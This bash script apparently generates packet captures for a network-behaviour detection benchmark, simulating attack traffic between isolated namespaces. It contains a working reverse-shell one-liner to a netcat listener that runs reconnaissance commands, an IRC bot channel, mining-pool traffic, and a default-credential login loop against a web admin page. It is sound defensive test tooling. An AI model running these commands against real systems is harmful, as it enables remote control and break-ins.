#!/usr/bin/env bash
# Quiet command-and-control sessions made with real tools, one TCP session each on a port no IoT device uses,
# and a quiet lateral step:
#   bash bench/behavior/gen-quiet-c2.sh [OUTDIR]        (root; Debian: netcat-openbsd socat ngircd sic curl python3 tcpdump)
# Two network namespaces joined by a veth pair: the "device" 10.99.0.10 (02:99:00:00:00:10) and the "internet"
# 10.99.0.1 (02:99:00:00:00:01), the addresses test-data/behavior/beacon/splice.py maps onto a real capture.
# Each capture is taken on the device's side:
#   revshell-nc-4444  bash -i >& /dev/tcp/…/4444 to an `nc -l` whose operator types 8 commands (~60 s)
#   irc-bot-6667      sic joins #bots on ngircd, idles with the server's PINGs, says two lines, quits (~4 min)
#   stratum-3333      one connection to a "pool" on 3333, a JSON-RPC share submitted every 15 s and
#                     acknowledged, stratum's shape (~4 min; socat answers each line)
# and one quiet lateral step, the far end a neighbour on the LAN (10.99.0.31, splice.py --peer lan):
#   web-admin-lan     curl to the neighbour's web admin page, then 6 default-credential logins (HTTP basic
#                     auth, 1 s apart) — an IoT worm's way in; python3's http.server answers (~7 s)
set -euo pipefail
OUT=${1:-/work/behavior-bench-quiet-c2}
mkdir -p "$OUT"
A=(ip netns exec nmlq-a)
B=(ip netns exec nmlq-b)
W=""
cleanup() {
  ip netns del nmlq-a 2>/dev/null || true
  ip netns del nmlq-b 2>/dev/null || true
  if [ -n "$W" ]; then rm -rf "$W"; fi
}
trap cleanup EXIT
cleanup
W=$(mktemp -d)
ip netns add nmlq-a
ip netns add nmlq-b
ip link add nmlqa type veth peer name nmlqb
ip link set nmlqa netns nmlq-a
ip link set nmlqb netns nmlq-b
"${A[@]}" ip link set nmlqa name eth0
"${B[@]}" ip link set nmlqb name eth0
"${A[@]}" ip link set eth0 address 02:99:00:00:00:10
"${B[@]}" ip link set eth0 address 02:99:00:00:00:01
"${A[@]}" ip addr add 10.99.0.10/24 dev eth0
"${B[@]}" ip addr add 10.99.0.1/24 dev eth0
for ns in nmlq-a nmlq-b; do
  ip netns exec $ns ip link set eth0 up
  ip netns exec $ns ip link set lo up
  # Real segment sizes on the wire, not 64 kB offloaded ones.
  ip netns exec $ns ethtool -K eth0 tx off rx off gso off tso off gro off >/dev/null 2>&1 || true
done

TCPDUMP=0
start_capture() {
  "${A[@]}" tcpdump -i eth0 -n -s 0 -U -w "$OUT/$1.pcap" >/dev/null 2>&1 &
  TCPDUMP=$!
  sleep 1
}
stop_capture() {
  sleep 1
  kill "$TCPDUMP"
  wait "$TCPDUMP" 2>/dev/null || true
  echo "gen-quiet-c2: $1 $(tcpdump -r "$OUT/$1.pcap" 2>/dev/null | wc -l) packets"
}

cat >"$W/operator.sh" <<'EOS'
sleep 2
for c in id 'uname -a' 'cat /etc/passwd | head -5' 'ls -la /tmp' 'ps aux | head' 'ip addr' 'df -h' exit; do
  echo "$c"
  sleep $((RANDOM % 5 + 3))
done
EOS
start_capture revshell-nc-4444
"${B[@]}" timeout 90 bash -c "bash $W/operator.sh | nc -l -p 4444 >/dev/null" &
LISTENER=$!
sleep 1
"${A[@]}" timeout 80 bash -c 'bash -i >& /dev/tcp/10.99.0.1/4444 0>&1' >/dev/null 2>&1 || true
wait "$LISTENER" || true
stop_capture revshell-nc-4444

cat >"$W/ngircd.conf" <<EOS
[Global]
Name = irc.example.net
Listen = 10.99.0.1
Ports = 6667
PidFile = $W/ngircd.pid
MotdPhrase = hi
ServerUID = root
PingTimeout = 30
[Options]
PAM = no
Ident = no
DNS = no
[Channel]
Name = #bots
EOS
"${B[@]}" /usr/sbin/ngircd -n -f "$W/ngircd.conf" >/dev/null 2>&1 &
IRCD=$!
sleep 1
start_capture irc-bot-6667
(
  sleep 3
  echo ':j #bots'
  sleep 60
  echo ':m #bots ready'
  sleep 60
  echo ':m #bots uid=0(root)'
  sleep 100
  echo ':q'
) | "${A[@]}" timeout 240 sic -h 10.99.0.1 -p 6667 -n "bot$RANDOM" >/dev/null 2>&1 || true
stop_capture irc-bot-6667
kill "$IRCD" 2>/dev/null || true

cat >"$W/pool.sh" <<'EOS'
while IFS= read -r line; do printf '{"id":1,"result":true,"error":null}\n'; done
EOS
"${B[@]}" timeout 260 socat TCP-LISTEN:3333,reuseaddr EXEC:"bash $W/pool.sh" &
POOL=$!
sleep 1
start_capture stratum-3333
"${A[@]}" timeout 250 bash -c 'for i in $(seq 1 16); do
  printf "{\"id\":%d,\"method\":\"mining.submit\",\"params\":[\"w1\",\"job%d\",\"00000000\",\"5f3a%04d\",\"a1b2c3d4\"]}\n" $i $i $i
  sleep 15
done | nc -q 2 10.99.0.1 3333' >/dev/null || true
stop_capture stratum-3333
kill "$POOL" 2>/dev/null || true

"${B[@]}" ip addr add 10.99.0.31/24 dev eth0
mkdir -p "$W/www/cgi-bin"
echo '<html>admin</html>' >"$W/www/index.html"
(cd "$W/www" && exec "${B[@]}" timeout 60 python3 -m http.server 80 --bind 10.99.0.31 >/dev/null 2>&1) &
WEB=$!
sleep 1
start_capture web-admin-lan
"${A[@]}" timeout 50 bash -c 'curl -s -m 5 -o /dev/null http://10.99.0.31/
for c in admin:admin admin:1234 root:root admin:password user:user root:12345; do
  curl -s -m 5 -o /dev/null -u "$c" http://10.99.0.31/cgi-bin/login.cgi
  sleep 1
done' || true
stop_capture web-admin-lan
kill "$WEB" 2>/dev/null || true
